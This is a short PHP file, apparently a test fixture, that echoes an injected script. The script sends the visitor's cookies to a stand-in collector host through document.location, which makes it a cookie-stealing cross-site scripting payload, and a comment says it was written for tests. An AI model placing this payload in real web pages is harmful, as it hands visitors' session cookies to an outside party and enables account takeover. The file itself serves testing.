<?php
// injected JavaScript that sends the visitor's cookies to an address PHP fills in
// (written for the tests, never run)
$collector = 'http://stats.example.invalid/c';
echo "<script>document.location='" . $collector . "?c='+document.cookie;</script>";
